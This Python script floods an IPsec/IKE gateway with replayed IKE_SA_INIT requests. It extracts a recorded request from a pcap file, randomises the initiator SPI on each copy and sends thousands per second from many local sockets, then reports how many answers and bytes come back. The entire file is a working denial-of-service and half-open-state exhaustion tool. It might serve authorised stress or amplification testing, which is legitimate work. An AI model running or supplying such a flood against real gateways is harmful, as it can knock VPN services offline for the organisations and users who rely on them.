#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Floods a gateway with IKE_SA_INIT requests: a recorded one with ever new initiator SPIs, from many addresses and ports
that answer nothing. Prints requests sent, bytes sent, answers, bytes of answers."""
import argparse
import os
import selectors
import socket
import struct
import time


def recorded_request(path):
    """The first IKE_SA_INIT request of a pcap file."""
    with open(path, "rb") as handle:
        data = handle.read()
    at = 24
    while at + 16 <= len(data):
        size, real = struct.unpack("<II", data[at + 8 : at + 16])
        frame = data[at + 16 : at + 16 + size]
        at += 16 + size
        start = 14 + (frame[14] & 15) * 4
        body = frame[start + 8 :]
        if size == real and frame[23] == 17 and len(body) > 28 and body[8:16] == bytes(8) and body[18] == 34:
            return body
    raise SystemExit(f"{path}: no IKE_SA_INIT request")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("capture")
    parser.add_argument("target")
    parser.add_argument("sources", nargs="+", help="own addresses to send from")
    parser.add_argument("--count", type=int, default=20000)
    parser.add_argument("--rate", type=int, default=4000)
    options = parser.parse_args()
    request = recorded_request(options.capture)
    sockets, poll = [], selectors.DefaultSelector()
    for source in options.sources:
        for _ in range(8):
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.bind((source, 0))
            sock.setblocking(False)
            sockets.append(sock)
            poll.register(sock, selectors.EVENT_READ)
    sent = answers = answer_bytes = 0

    def drain(wait):
        nonlocal answers, answer_bytes
        for key, _ in poll.select(wait):
            try:
                while True:
                    answer_bytes += len(key.fileobj.recv(4096))
                    answers += 1
            except BlockingIOError:
                pass

    began = time.monotonic()
    while sent < options.count:
        sockets[sent % len(sockets)].sendto(os.urandom(8) + request[8:], (options.target, 500))
        sent += 1
        if sent % 64 == 0:
            drain(0)
            ahead = sent / options.rate - (time.monotonic() - began)
            if ahead > 0:
                time.sleep(ahead)
    until = time.monotonic() + 1
    while time.monotonic() < until:
        drain(0.1)
    print(sent, sent * len(request), answers, answer_bytes)


if __name__ == "__main__":
    main()
